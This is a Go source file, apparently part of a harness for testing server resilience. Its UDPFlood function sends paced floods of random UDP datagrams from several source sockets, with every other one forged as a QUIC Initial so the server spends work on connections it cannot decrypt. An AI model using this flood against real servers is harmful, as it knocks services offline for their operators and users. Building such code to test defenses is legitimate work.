package attack

import (
	"context"
	"encoding/binary"
	"math/rand/v2"
	"net"
	"time"
)

// FloodSize is the size of UDPFlood's datagrams: the largest a client may
// send, the least QUIC takes for an Initial.
const FloodSize = 1200

// UDPFlood sends rate datagrams of FloodSize bytes a second to the
// server, from sources sockets, each on a host of its own (Host(0)
// onward), in turn. Every other one starts as a QUIC Initial of version 1
// with a random connection id, the rest is noise, so that the server
// parses them as new connections and cannot decrypt them; the others are
// noise that is not QUIC.
func UDPFlood(ctx context.Context, t Target, sources, rate int) (Result, error) {
	to, err := net.ResolveUDPAddr("udp", t.Addr)
	if err != nil {
		return Result{}, err
	}
	conns := make([]*net.UDPConn, 0, sources)
	defer func() {
		for _, c := range conns {
			_ = c.Close()
		}
	}()
	for h := range sources {
		local, err := hostAddr(h)
		if err != nil {
			return Result{}, err
		}
		c, err := net.ListenUDP("udp", local)
		if err != nil {
			return Result{}, err
		}
		conns = append(conns, c)
	}
	var r Result
	b := make([]byte, FloodSize)
	k := 0
	pace(ctx, rate, func(_ time.Duration) {
		for i := 0; i < len(b); i += 8 {
			binary.LittleEndian.PutUint64(b[i:], rand.Uint64())
		}
		if k%2 == 0 {
			b[0] = 0xc3                                               // long header, Initial, 4-byte packet number
			binary.BigEndian.PutUint32(b[1:], 1)                      // QUIC version 1
			b[5] = 8                                                  // destination connection id: 8 random bytes
			b[14] = 8                                                 // source connection id: 8 random bytes
			b[23] = 0                                                 // no token
			binary.BigEndian.PutUint16(b[24:], 0x4000|(FloodSize-26)) // the rest is the packet
		} else {
			b[0] &^= 0x80 // a short header for no connection, or noise
		}
		if _, err := conns[k%len(conns)].WriteToUDP(b, to); err == nil {
			r.Sent++
		}
		k++
	})
	return r, nil
}
